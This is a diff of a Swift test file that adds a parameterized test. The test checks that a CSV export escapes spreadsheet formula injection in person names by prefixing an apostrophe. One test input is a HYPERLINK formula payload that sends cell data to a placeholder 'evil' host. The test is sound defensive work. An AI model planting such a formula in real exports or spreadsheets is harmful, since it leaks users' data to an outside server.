@@ -84,6 +84,19 @@ import Testing
     }
 
     @Test(arguments: [
+        ("=1+1", "'=1+1"), (#"=HYPERLINK("http://evil/?"&A1)"#, #""'=HYPERLINK(""http://evil/?""&A1)""#),
+        ("+49", "'+49"),
+        ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "\"'\r=1\""), ("a=1", "a=1"), ("", ""),
+    ])
+    func keepsSpreadsheetsFromTakingNamesForFormulas(name: String, field: String) async throws {
+        let stored = try meeting(of: 1, and: 2, at: 0, samples: 7)
+        let (one, two) = (try #require(PersonID(rawValue: 1)), try #require(PersonID(rawValue: 2)))
+        let encounters = InMemoryEncounters(stored, persons: [someone(one), someone(two, name, "L", name)])
+        let answer = try await APIUnderTest(encounters).send(.get, Self.path, headers: ["Accept": "text/csv"])
+        #expect(answer.text.contains("\r\n2,\(field),L,\(field),2020-"))
+    }
+
+    @Test(arguments: [
         (nil, "application/json"), ("*/*", "application/json"), ("application/*", "application/json"),
         ("text/csv, application/json", "text/csv"), ("application/json;q=0.1, text/csv;q=0.2", "text/csv"),
         ("*/*, application/json;q=0.5", "application/geo+json"), ("text/html, text/*;q=0.1", "text/csv"),
